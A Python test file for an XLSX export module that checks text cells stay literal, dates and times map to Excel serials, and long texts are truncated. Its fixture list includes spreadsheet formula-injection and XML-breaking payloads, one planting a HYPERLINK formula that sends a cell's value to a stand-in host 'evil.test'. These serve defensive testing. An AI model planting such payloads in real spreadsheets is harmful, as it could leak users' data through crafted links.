from datetime import UTC, date, datetime
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.utils import get_column_letter

from project.services.exports.columns import Kind
from project.services.exports.xlsx_cells import Cells, column_name
from tests.services.exports.tables import as_xlsx, sheet_xml, workbook, xlsx_cells

KATHMANDU = ZoneInfo("Asia/Kathmandu")
LIKE_FORMULAS = [
    *("=1+1", "{=1+1}", "====line===", "=15%", '=HYPERLINK("https://evil.example")', "+1", "@x", "http://x"),
    *("mailto:a@b", "internal:Sheet2!A1", "'x", "<r>a & b</r>", "<r/>"),
    '<r><t>x</t></r></is></c><c r="B2"><f>HYPERLINK("http://evil.test/?"&amp;A1,"click")</f><v>0</v></c>'
    '<c r="C2" t="inlineStr"><is><r><t>y</t></r>',
]
LIKE_VALUES = ["00123", "1E14", "1E5", "2024-03-12", "1/2", "TRUE", "12345678901234567890", "-5"]
LONGEST = 32_767


@pytest.mark.parametrize("text", LIKE_FORMULAS + LIKE_VALUES)
def test_a_text_is_a_text_whatever_it_says(text: str) -> None:
    content = as_xlsx([Kind.TEXT], [(text,)])
    (cell,) = next(workbook(content).worksheets[0].iter_rows(min_row=2))
    assert (cell.value, cell.data_type, cell.hyperlink) == (text, "s", None)
    assert "<f>" not in sheet_xml(content)
    assert xlsx_cells(text) == [text]


def test_a_text_cannot_get_into_the_next_cell() -> None:
    content = as_xlsx([Kind.TEXT] * 3, [(LIKE_FORMULAS[-1], None, "own")])
    row = next(workbook(content).worksheets[0].iter_rows(min_row=2, values_only=True))
    assert row == (LIKE_FORMULAS[-1], None, "own")


def test_characters_that_xml_cannot_hold_are_replaced() -> None:
    texts = ["a\x0bb", "kr 4\x1600 000", "\x1f", "\x01", "a\ufffeb\uffff"]
    assert xlsx_cells(*texts) == ["a�b", "kr 4�00 000", "�", "�", "a�b�"]


def test_what_looks_like_an_escape_is_stored_as_a_literal() -> None:
    content = as_xlsx([Kind.TEXT], [("_x000B_ _x0041_ _x12_ _xyzab_",)])
    assert ">_x005F_x000B_ _x005F_x0041_ _x12_ _xyzab_<" in sheet_xml(content)


def test_blanks_and_line_ends_stay() -> None:
    assert xlsx_cells(" a ", "\n b\t\n", "a\r\nb\rc") == [" a ", "\n b\t\n", "a\nb\nc"]


@settings(deadline=None)
@given(st.lists(st.text(alphabet=st.characters(exclude_categories=["Cs", "Cc"]), min_size=1), min_size=1))
def test_any_text_reads_back(texts: list[str]) -> None:
    wanted = [text.replace("\ufffe", "�").replace("\uffff", "�") for text in texts]
    content = as_xlsx([Kind.TEXT], [(text,) for text in texts])
    assert [unescaped(row[0]) for row in workbook(content).active.iter_rows(min_row=2, values_only=True)] == [
        unescaped(text) for text in wanted
    ]


def unescaped(text: str) -> str:
    """openpyxl leaves Excel's own escapes in texts as they are stored."""
    return text.replace("_x005F_", "_")


@pytest.mark.parametrize("text", ["x" * LONGEST, "😀" * (LONGEST // 2), "x" * (LONGEST - 2) + "😀"])
def test_the_longest_text_stays_whole(text: str) -> None:
    cells = Cells([], 1, 2)
    assert f">{text}</t>" in cells._text("A1", text)
    assert cells.cut == 0


@pytest.mark.parametrize(
    "text", ["x" * (LONGEST + 1), "x" * 40_000, "😀" * 20_000, "x" * (LONGEST - 1) + "😀", "a\n" * 32_768]
)
def test_a_longer_one_is_cut_with_a_mark_between_characters_and_counted(text: str) -> None:
    noted: list[int] = []
    content = as_xlsx([Kind.TEXT], [(text,), ("short",)], note_cut=noted.append)
    stored = workbook(content).active["A2"].value
    assert len(stored.encode("utf-16-le")) // 2 in {LONGEST, LONGEST - 1}
    assert stored.endswith("…")
    assert text.startswith(stored[:-1])
    assert noted == [1]


def test_line_ends_are_made_one_before_the_text_is_measured() -> None:
    assert len(str(xlsx_cells("a\r\n" * 16_383)[0])) == 2 * 16_383


@pytest.mark.parametrize(
    ("day", "serial"),
    [
        (date(1900, 1, 1), 1),
        (date(1900, 2, 28), 59),
        (date(1900, 3, 1), 61),
        (date(2024, 3, 12), 45363),
        (date(9999, 12, 31), 2958465),
    ],
)
def test_days_have_excels_numbers(day: date, serial: int) -> None:
    content = as_xlsx([Kind.DATE], [(day,)])
    assert f"<v>{serial}</v>" in sheet_xml(content)
    cell = workbook(content).active["A2"]
    assert cell.is_date
    if day > date(1900, 3, 1):
        assert cell.value.date() == day


@pytest.mark.parametrize("day", [date(1899, 12, 31), date(1, 1, 1)])
def test_days_that_excel_does_not_know_are_texts(day: date) -> None:
    assert workbook(as_xlsx([Kind.DATE], [(day,)])).active["A2"].value == day.isoformat()
    time = datetime(day.year, day.month, day.day, 3, tzinfo=UTC)
    assert workbook(as_xlsx([Kind.TIME], [(time,)])).active["A2"].value == time.isoformat()


@settings(deadline=None)
@given(
    st.datetimes(min_value=datetime(1900, 3, 1), max_value=datetime(9999, 12, 31)),  # noqa: DTZ001
    st.sampled_from([UTC, KATHMANDU]),
)
def test_times_are_those_of_the_clock_on_the_wall(naive: datetime, zone: ZoneInfo) -> None:
    time = naive.replace(microsecond=0, tzinfo=zone)
    cell = workbook(as_xlsx([Kind.TIME], [(time,)], zone=str(zone))).active["A2"]
    assert (cell.value, cell.number_format) == (time.replace(tzinfo=None), "yyyy-mm-dd hh:mm:ss")


def test_values_that_are_missing_are_cells_that_are_missing() -> None:
    xml = sheet_xml(
        as_xlsx([Kind.TEXT, Kind.DATE, Kind.TIME, Kind.NAMES, Kind.NUMBER], [("", None, None, [], 0)])
    )
    assert '<row r="2"><c r="E2"><v>0</v></c></row>' in xml


def test_flags_are_booleans_and_numbers_are_numbers() -> None:
    rows = workbook(as_xlsx([Kind.FLAG, Kind.FLAG, Kind.NUMBER], [(True, False, -3)])).active
    assert [cell.value for cell in rows[2]] == [True, False, -3]
    assert [cell.data_type for cell in rows[2]] == ["b", "b", "n"]


def test_columns_are_named_as_elsewhere() -> None:
    places = [0, 25, 26, 51, 52, 701, 702, 16_383]
    assert [column_name(place) for place in places] == [get_column_letter(place + 1) for place in places]
